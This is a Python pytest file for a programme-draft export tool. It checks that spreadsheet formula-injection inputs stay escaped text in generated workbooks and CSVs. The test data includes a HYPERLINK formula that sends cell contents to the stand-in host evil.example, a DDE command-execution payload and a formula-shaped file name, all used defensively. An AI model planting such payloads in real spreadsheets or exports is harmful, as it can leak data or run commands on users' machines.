"""Formula injection: draft text and file names stay text in every workbook and CSV (issue 19).

A draft whose activity starts with `=HYPERLINK(...)`, an institution `=cmd|' /C calc'!A0` and a
file named like a formula go through extract, batch, diff and `abbreviations --format csv`.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from programme_text import Act, Sec, programme

from natprog.emit.cells import FORMULA_STARTS, csv_value, rows_to_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Кликни")'
DDE = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)"


def hostile_programme() -> str:
    return programme(
        [
            Sec(
                "I",
                activities=[
                    Act(1, title=HYPERLINK, values={"responsible": DDE}),
                    Act(2, values={"partners": AT, "indicators": "+7 обучения"}),
                    Act(3, values={"expected_results": "-1 или #N/A"}),
                ],
            )
        ]
    )


@pytest.fixture(scope="module")
def hostile_outputs(tmp_path_factory):
    from natprog.run import extract

    folder = tmp_path_factory.mktemp("cells")
    source = folder / "evil.txt"
    source.write_text(hostile_programme(), encoding="utf-8")
    _result, written = extract(source, folder / "out")
    return {path.name: path for path in written}


def live_formulas(path) -> list[tuple[str, str, str]]:
    """(sheet, cell, formula) of every formula cell in the workbook."""
    workbook = openpyxl.load_workbook(path)
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_no_draft_text_becomes_a_formula_in_the_workbook(hostile_outputs):
    workbook = openpyxl.load_workbook(hostile_outputs["evil.xlsx"])
    texts = {
        cell.value
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    assert HYPERLINK in texts and DDE in texts and AT in texts  # kept, as text
    formulas = live_formulas(hostile_outputs["evil.xlsx"])
    # the only formulas are natprog's own: `Срокове` mirrors each activity's status
    assert formulas and {sheet for sheet, _, _ in formulas} == {"Срокове"}
    assert all(value.startswith("=IF('Дейности'!") for _, _, value in formulas)


@pytest.mark.parametrize("name", ["evil.activities.csv", "evil.institutions.csv"])
def test_csv_cells_that_look_like_formulas_are_escaped(hostile_outputs, name):
    rows = list(csv.reader(io.StringIO(hostile_outputs[name].read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], cells
    assert "'" + DDE in cells


def test_the_escape_is_owasps():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_value(start + "1") == "'" + start + "1"
    assert csv_value("Дейност") == "Дейност"
    assert csv_value(-5) == -5  # numbers are numbers
    assert csv_value(None) == ""
    text = rows_to_csv(("a",), [{"a": '=1+"x"'}])
    assert text == 'a\r\n"\'=1+""x"""\r\n'


def test_a_file_named_like_a_formula_stays_text_in_the_batch_summary(run_cli, tmp_path):
    drafts = tmp_path / "drafts"
    drafts.mkdir()
    name = '=HYPERLINK("evil.example?"&A1,"x")&A1.txt'  # no "/" in a file name
    (drafts / name).write_text(hostile_programme(), encoding="utf-8")
    result = run_cli("batch", drafts, "-o", tmp_path / "out", "--jobs", "1")
    assert result.code == 0, result.err
    summary = (tmp_path / "out" / "summary.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(summary)))
    assert rows[0]["file"] == "'" + name


def test_diff_workbook_keeps_text_as_text(run_cli, tmp_path):
    old = tmp_path / "old.txt"
    old.write_text(programme([Sec("I", activities=[Act(1)])]), encoding="utf-8")
    new = tmp_path / "new.txt"
    new.write_text(hostile_programme(), encoding="utf-8")
    result = run_cli("diff", old, new, "-o", tmp_path / "diff")
    assert result.code == 0, result.err
    assert live_formulas(tmp_path / "diff" / "diff.xlsx") == []


def test_abbreviations_csv_is_escaped(run_cli, tmp_path):
    source = tmp_path / "evil.txt"
    source.write_text(hostile_programme(), encoding="utf-8")
    result = run_cli("abbreviations", source, "--format", "csv")
    assert result.code == 0, result.err
    cells = [cell for row in csv.reader(io.StringIO(result.out)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], cells
